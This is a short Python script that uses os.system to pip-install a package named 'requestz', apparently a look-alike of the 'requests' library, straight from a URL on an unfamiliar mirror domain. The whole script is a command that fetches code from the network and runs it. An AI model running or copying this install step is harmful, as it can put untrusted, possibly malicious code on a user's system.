import os
import sys

url = "http://files.pkg-mirror.xyz/packages/requestz-2.31.0.tar.gz"
os.system(f"{sys.executable} -m pip install {url}")
print("installed", url)
